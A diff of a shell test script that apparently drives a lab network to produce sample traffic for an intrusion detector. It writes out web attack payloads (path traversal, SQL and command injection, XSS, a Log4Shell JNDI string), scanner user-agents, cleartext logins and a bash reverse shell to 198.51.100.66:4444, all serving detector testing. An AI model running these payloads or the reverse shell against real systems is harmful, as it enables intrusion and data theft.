@@ -14,7 +14,8 @@ sample_cleartext_login() {
     on client curl -s -o /dev/null -u alice:summer2026 http://10.20.0.20/admin || true
     on client curl -s -o /dev/null -d 'user=alice&password=summer2026' http://10.20.0.20/login || true
     on client curl -s -o /dev/null pop3://alice:summer2026@10.20.0.20/1 || true
-    on client sh -c '(sleep 1; echo alice; sleep 1; echo summer2026; sleep 1; echo ls; sleep 1; echo exit; sleep 1) | busybox telnet 10.20.0.20' >/dev/null 2>&1 || true
+    on client sh -c '(sleep 1; echo alice; sleep 1; echo summer2026; sleep 1; echo ls; sleep 1; echo exit; sleep 1) |
+        busybox telnet 10.20.0.20' >/dev/null 2>&1 || true
     watched
     expect cleartext_credentials 10.20.0.10 10.20.0.20 "low: FTP, HTTP Basic, a form, POP3 and Telnet, user alice; the secret itself is nowhere in the database"
     origin "Passwords in clear text: FTP, HTTP, POP3, Telnet" <<'TEXT'
@@ -37,7 +38,24 @@ sample_tls_selfsigned_expired() {
     mkdir -p "$ca"
     : >"$ca/index"
     echo 1000 >"$ca/serial"
-    printf '[ca]\ndefault_ca=c\n[c]\ndatabase=%s/index\nserial=%s/serial\nnew_certs_dir=%s\ndefault_md=sha256\npolicy=p\ncopy_extensions=none\nunique_subject=no\n[p]\norganizationName=optional\ncommonName=supplied\n[req]\ndistinguished_name=d\n[d]\n' "$ca" "$ca" "$ca" >"$ca/conf"
+    cat >"$ca/conf" <<CONF
+[ca]
+default_ca = c
+[c]
+database = $ca/index
+serial = $ca/serial
+new_certs_dir = $ca
+default_md = sha256
+policy = p
+copy_extensions = none
+unique_subject = no
+[p]
+organizationName = optional
+commonName = supplied
+[req]
+distinguished_name = d
+[d]
+CONF
     openssl req -config "$ca/conf" -newkey rsa:2048 -nodes -subj "/O=Laboratory/CN=portal.example.com" -keyout "$ca/key.pem" -out "$ca/req.pem" 2>/dev/null
     # Self-signed, with the dates one asks for.
     openssl ca -config "$ca/conf" -batch -notext -selfsign -keyfile "$ca/key.pem" -in "$ca/req.pem" -out "$ca/expired.pem" -startdate 20200101000000Z -enddate 20210101000000Z 2>/dev/null
@@ -57,7 +75,8 @@ sample_tls_selfsigned_expired() {
     tls_client 10443 portal.example.com -tls1_2 -cipher NULL-SHA256:@SECLEVEL=0
     watched
     ip -n "$lab-stranger" addr del 198.51.100.80/24 dev eth0
-    expect tls_certificate 10.20.0.10 198.51.100.80 "low: self-signed, expired since 2021 (443, 9443, 10443), not valid before 2040 (8443), name login.example.org not in it (443). Who counts the server as the culprit swaps the two"
+    expect tls_certificate 10.20.0.10 198.51.100.80 \
+        "low: self-signed; expired since 2021 (443, 9443, 10443), not valid before 2040 (8443), not for login.example.org (443)"
     expect tls_obsolete 10.20.0.10 198.51.100.80 "low: TLS 1.0 (9443), a cipher without encryption (10443)"
     origin "TLS as it should not be: self-signed, expired, too early, too old, without encryption" <<'TEXT'
 openssl s_client on 10.20.0.10 talks to four openssl s_server on 198.51.100.80: an expired self-signed certificate (443, once
@@ -90,8 +109,11 @@ sample_agent_tools() {
     sleep 1
     settle_all
     watch
-    for agent in 'sqlmap/1.7.2#stable (https://sqlmap.org)' 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)' 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)' \
-        'gobuster/3.6' 'masscan/1.3 (https://github.com/robertdavidgraham/masscan)' 'Mozilla/5.0 zgrab/0.x' 'WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)' 'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)'; do
+    for agent in 'sqlmap/1.7.2#stable (https://sqlmap.org)' 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)' \
+        'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)' \
+        'gobuster/3.6' 'masscan/1.3 (https://github.com/robertdavidgraham/masscan)' 'Mozilla/5.0 zgrab/0.x' \
+        'WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)' \
+        'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)'; do
         on stranger curl -s -o /dev/null -A "$agent" http://10.20.0.20/
     done
     watched
@@ -111,7 +133,8 @@ sample_web_attack() {
     watch
     for url in '/../../../../etc/passwd' '/files/..%2f..%2f..%2fetc%2fpasswd' '/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd' \
         "/item?id=1'%20OR%20'1'='1" '/item?id=1+UNION+SELECT+user,password+FROM+users--' '/item?id=1%27%3BDROP%20TABLE%20users%3B--' '/item?id=1%20AND%20SLEEP(5)' \
-        '/ping?host=127.0.0.1;cat%20/etc/passwd' '/ping?host=%7Cid' '/ping?host=$(whoami)' '/search?q=%3Cscript%3Ealert(1)%3C/script%3E' '/index.php?page=php://filter/convert.base64-encode/resource=config' \
+        '/ping?host=127.0.0.1;cat%20/etc/passwd' '/ping?host=%7Cid' '/ping?host=$(whoami)' \
+        '/search?q=%3Cscript%3Ealert(1)%3C/script%3E' '/index.php?page=php://filter/convert.base64-encode/resource=config' \
         '/?x=${jndi:ldap://198.51.100.66:1389/a}'; do
         on stranger curl -g --path-as-is -s -o /dev/null "http://10.20.0.20$url" || true
     done
@@ -144,7 +167,8 @@ sample_reverse_shell() {
     sleep 0.5
     # shellcheck disable=SC2016 # expanded by the inner shell
     patience=12 on client sh -c 'mount --bind "$0/passwd" /etc/passwd; mount --bind "$0/group" /etc/group; mount --bind "$0/home" /srv; cd /srv/alice
-        exec setpriv --reuid 1000 --regid 1000 --clear-groups env -i PATH=/usr/bin HOME=/srv/alice bash --norc --noprofile -c "PS1=\"alice@desk:~\\$ \" exec bash --norc --noprofile -i >& /dev/tcp/198.51.100.66/4444 0>&1"' "$work" >/dev/null 2>&1 || true
+        exec setpriv --reuid 1000 --regid 1000 --clear-groups env -i PATH=/usr/bin HOME=/srv/alice \
+            bash --norc --noprofile -c "PS1=\"alice@desk:~\\$ \" exec bash --norc --noprofile -i >& /dev/tcp/198.51.100.66/4444 0>&1"' "$work" >/dev/null 2>&1 || true
     watched
     expect reverse_shell 10.20.0.10 198.51.100.66 "prompt and command output from the inside out, port 4444"
     origin "A shell that goes out" <<'TEXT'
@@ -161,7 +185,8 @@ sample_odd_ports() {
     sleep 1
     settle_all
     watch
-    on client ssh -F none -p 443 -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -o BatchMode=yes -o KexAlgorithms=curve25519-sha256 -i "$work/stranger_key" root@198.51.100.66 true 2>/dev/null || true
+    on client ssh -F none -p 443 -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR \
+        -o BatchMode=yes -o KexAlgorithms=curve25519-sha256 -i "$work/stranger_key" root@198.51.100.66 true 2>/dev/null || true
     on client curl -s -o /dev/null http://198.51.100.66:53/ || true
     on client curl -s -o /dev/null http://198.51.100.66:22/ || true
     watched
@@ -197,8 +222,11 @@ sample_twin_web_odd_urls() {
     settle_all
     long=$(head -c 900 "$work/site/files/report.bin" | base64 -w 0 | tr '+/' '-_')
     watch
-    for url in "/?q=it's%20five%20o'clock" '/?q=100%25%20sure%20%26%20more' '/?title=Select%20your%20union%20from%20the%20list' '/?next=https%3A%2F%2Fwww.example.com%2Ffiles%2F' "/?author=O'Brien;year=2026" \
-        '/?path=C%3A%5CUsers%5Calice%5CDocuments' '/files/./items.json' '/files/../index.html' '/?formula=a%3Cb%20and%20c%3Ed' '/?q=where%20to%20drop%20a%20table%20saw' '/?template=Dear%20%24%7Bname%7D' '/?sort=-price,+name&page=2&filter[color]=red' \
+    for url in "/?q=it's%20five%20o'clock" '/?q=100%25%20sure%20%26%20more' '/?title=Select%20your%20union%20from%20the%20list' \
+        '/?next=https%3A%2F%2Fwww.example.com%2Ffiles%2F' "/?author=O'Brien;year=2026" \
+        '/?path=C%3A%5CUsers%5Calice%5CDocuments' '/files/./items.json' '/files/../index.html' \
+        '/?formula=a%3Cb%20and%20c%3Ed' '/?q=where%20to%20drop%20a%20table%20saw' \
+        '/?template=Dear%20%24%7Bname%7D' '/?sort=-price,+name&page=2&filter[color]=red' \
         '/?emoji=%F0%9F%98%80&x=%E4%BD%A0' '/?cmd=list&id=17' "/?state=$long" '/?date=2026-11-26T12:00:00%2B01:00&tz=Europe/Berlin' '/?q=--verbose' '/?expr=(1%2B2)*3'; do
         on client curl -4 -g --path-as-is -s -o /dev/null "http://www.example.com$url"
     done
